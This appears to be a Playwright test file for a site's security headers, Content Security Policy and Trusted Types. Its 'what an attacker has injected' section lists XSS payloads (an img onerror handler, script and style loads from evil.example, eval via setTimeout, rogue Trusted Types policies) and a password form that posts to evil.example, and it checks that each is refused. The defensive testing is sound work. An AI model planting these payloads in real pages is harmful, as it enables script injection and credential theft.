import type { Page } from '@playwright/test';
import { hostileHtml } from '../../../shared-ui/src/trust/test/hostileHtml';
import { startPage } from '../../alive';
import { expect, test } from '../../fixtures';

declare global {
  interface Window {
    violations: string[];
  }
}

const soft = expect.configure({ soft: true });

const everyPage = ['/', '/help', '/help/articles/print-ready-pdf', '/admin', '/no-such-page'];

/** Collects what the policy of a page refuses, from its first element on. */
const watchPolicy = (page: Page) =>
  page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      window.violations.push(`${effectiveDirective} ${blockedURI}`);
    });
  });

const violations = (page: Page) => page.evaluate(() => window.violations);

test.describe('the policy', () => {
  test.use({ expectedErrors: [/404/] });

  test('of every page names what may run and look, and nothing inline besides', async ({
    request,
  }) => {
    for (const path of everyPage) {
      const headers = (await request.get(path)).headers();
      const policy = headers['content-security-policy'] ?? '';
      expect.soft(policy, path).not.toMatch(/unsafe|\*/);
      expect.soft(policy, path).toMatch(/style-src ('sha256-[^']+' )+'self'/);
      expect.soft(policy, path).toContain("require-trusted-types-for 'script'");
      expect.soft(policy, path).toContain('trusted-types default pressline;');
      expect.soft(headers['integrity-policy'], path).toBe('blocked-destinations=(script)');
      expect.soft(headers['cross-origin-resource-policy'], path).toBe('same-origin');
    }
  });

  test('is kept by every page, before and after React takes it over', async ({ page, request }) => {
    test.slow();
    await watchPolicy(page);
    const map = await (await request.get('/sitemap.xml')).text();
    const listed = [...map.matchAll(/<loc>([^<]+)<\/loc>/g)].map(
      ([, url = '']) => new URL(url).pathname,
    );
    const articles = listed.filter((path) => path.startsWith('/help/articles/'));
    const paths = listed.filter((path) => !articles.includes(path)).concat(articles.slice(0, 4));
    for (const path of [...paths, '/help?q=bleed', '/no-such-page']) {
      await page.goto(path);
      await startPage(page);
      await page.waitForFunction(() => window.presslineStarted);
      expect.soft(await violations(page), path).toEqual([]);
    }
  });
});

test.describe('without scripts', () => {
  test.use({ javaScriptEnabled: false });

  test('pages and sheets look as they should', async ({ page }) => {
    await page.goto('/help');
    await expect(page.getByRole('heading', { level: 1 })).toHaveCSS('font-family', /Bricolage/);
    await page.goto('/api/help/articles/print-ready-pdf/sheet');
    await expect(page.getByRole('complementary')).toHaveCSS('background-color', /rgb/);
  });
});

test('a page scrolls again when its dialog is closed, and not before', async ({ page }) => {
  await watchPolicy(page);
  await page.goto('/');
  await page.locator('footer [data-consent-choice="preferences"]').click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await expect(page.locator('body')).toHaveCSS('overflow', 'hidden');
  await page.keyboard.press('Escape');
  await expect(page.getByRole('dialog')).toBeHidden();
  await expect(page.locator('body')).not.toHaveCSS('overflow', 'hidden');
  expect(await violations(page)).toEqual([]);
});

test.describe('what an attacker has injected', () => {
  test.use({
    expectedErrors: [/Content Security Policy|Trusted|integrity|Failed to load resource/i],
  });

  /** What code of a page might do with text that came from elsewhere. */
  const ATTEMPTS: readonly (readonly [string, string, () => unknown])[] = [
    [
      'HTML from a string',
      'require-trusted-types-for',
      () => (document.body.innerHTML = '<img src="x" onerror="window.isHurt = true">'),
    ],
    [
      'a handler in an attribute',
      'require-trusted-types-for',
      () => document.body.setAttribute('onclick', 'window.isHurt = true'),
    ],
    [
      'a script of another site',
      'require-trusted-types-for',
      () =>
        document.head.append(
          Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
        ),
    ],
    [
      'a script of this site that belongs to no release of the page',
      'require-trusted-types-for',
      () =>
        document.head.append(
          Object.assign(document.createElement('script'), { src: '/api/help/articles' }),
        ),
    ],
    [
      'the text of a script',
      'require-trusted-types-for',
      () =>
        document.head.append(
          Object.assign(document.createElement('script'), { textContent: 'window.isHurt = true' }),
        ),
    ],
    ['text for eval', 'require-trusted-types-for', () => window.setTimeout('window.isHurt = true')],
    [
      'a stylesheet in the document',
      'style-src-elem',
      () =>
        document.head.append(
          Object.assign(document.createElement('style'), { textContent: 'body{color:red}' }),
        ),
    ],
    [
      'a style attribute',
      'style-src-attr',
      () => document.body.setAttribute('style', 'background:url(https://evil.example/x)'),
    ],
    [
      'a policy of its own',
      'trusted-types',
      () => window.trustedTypes?.createPolicy('evil', { createHTML: (html) => html }),
    ],
    [
      'a policy of the name of ours',
      'trusted-types',
      () => window.trustedTypes?.createPolicy('pressline', { createHTML: (html) => html }),
    ],
    [
      'another default policy',
      'trusted-types',
      () => window.trustedTypes?.createPolicy('default', { createHTML: (html) => html }),
    ],
  ];

  /** The ways in which the policy that all bundles share was replaced. */
  const replacePolicy = () => {
    const html = '<form action="https://evil.example"><input name="password"></form>';
    const attempts = {
      replaced: () => Object.assign(window, { presslineHtml: { createHTML: String } }),
      defined: () =>
        Object.defineProperty(window, 'presslineHtml', { value: { createHTML: String } }),
      changed: () => Object.assign(window.presslineHtml ?? {}, { createHTML: String }),
      deleted: () => delete (window as { presslineHtml?: unknown }).presslineHtml,
      used: () => (document.body.innerHTML = window.presslineHtml?.createHTML(html) ?? ''),
    };
    return Object.entries(attempts).flatMap(([name, attempt]) => {
      try {
        return attempt() === false ? [] : [name];
      } catch {
        return [];
      }
    });
  };

  /** What becomes of a script of ours that comes without its hash. */
  const bringScript = () =>
    new Promise((resolve) => {
      const { shell = '' } = document.querySelector<HTMLElement>('[data-shell]')?.dataset ?? {};
      const script = Object.assign(document.createElement('script'), {
        onload: () => resolve('runs'),
        onerror: () => resolve('refused'),
      });
      script.src = shell;
      document.head.append(script);
    });

  // What is refused leaves the page as it was: one load serves all attempts.
  test('is refused on every page, whose common policy no script can replace', async ({ page }) => {
    test.slow();
    await watchPolicy(page);
    for (const path of everyPage) {
      await page.goto(path);
      await page.waitForFunction(() => 'presslineHtml' in window && 'presslineConsent' in window);
      expect.soft(await page.evaluate(replacePolicy), `policy of ${path}`).toEqual([]);
      for (const [name, directive, attempt] of ATTEMPTS) {
        await page.evaluate(() => {
          window.violations = [];
        });
        // The function itself: text would need eval, which the page refuses, too.
        await page.evaluate(attempt).catch(() => {});
        await soft
          .poll(() => violations(page), `${name} on ${path}`)
          .toContainEqual(expect.stringMatching(`^${directive} `));
        const isHurt = await page.evaluate(() => Reflect.get(window, 'isHurt'));
        expect.soft(isHurt, `${name} on ${path}`).toBeUndefined();
      }
      const ours = await page.evaluate(bringScript);
      expect.soft(ours, `a script of ours without its hash on ${path}`).toBe('refused');
      await startPage(page);
      await page.waitForFunction(() => window.presslineStarted);
    }
  });

  test('the Releases panel gets to know what was refused on whose page, not what it said', async ({
    page,
    api,
    signIn,
    panel,
  }) => {
    await page.goto('/help?q=kim@example.com');
    await page
      .evaluate(() => document.body.setAttribute('style', 'color:rgb(1,2,3)'))
      .catch(() => {});
    const reported = async () => {
      const { errors } = await api.telemetry.get(7);
      return errors.find(
        ({ message, remote }) =>
          remote === 'mfe-help' && message.startsWith('style-src-attr refused inline'),
      );
    };
    await expect.poll(reported).toMatchObject({ kind: 'page-violation' });
    expect(JSON.stringify(await reported())).not.toMatch(/kim|rgb/);
    await signIn();
    await panel.open('releases');
    await expect(
      page.getByText('style-src-attr refused inline').locator('xpath=ancestor::li[1]').first(),
    ).toContainText('seen on its pages, not counted');
  });
});

test.describe('hostile HTML', () => {
  // What is parsed is reported, although nothing of it runs.
  test.use({ expectedErrors: [/Content Security Policy/] });

  test('the policy for HTML refuses whatever no text has', async ({ page }) => {
    await page.goto('/help');
    await page.waitForFunction(() => window.presslineHtml);
    const passed = await page.evaluate(
      (forms) =>
        forms.filter((html) => {
          try {
            return window.presslineHtml?.createHTML(html);
          } catch {
            return false;
          }
        }),
      hostileHtml,
    );
    expect(passed).toEqual([]);
  });
});
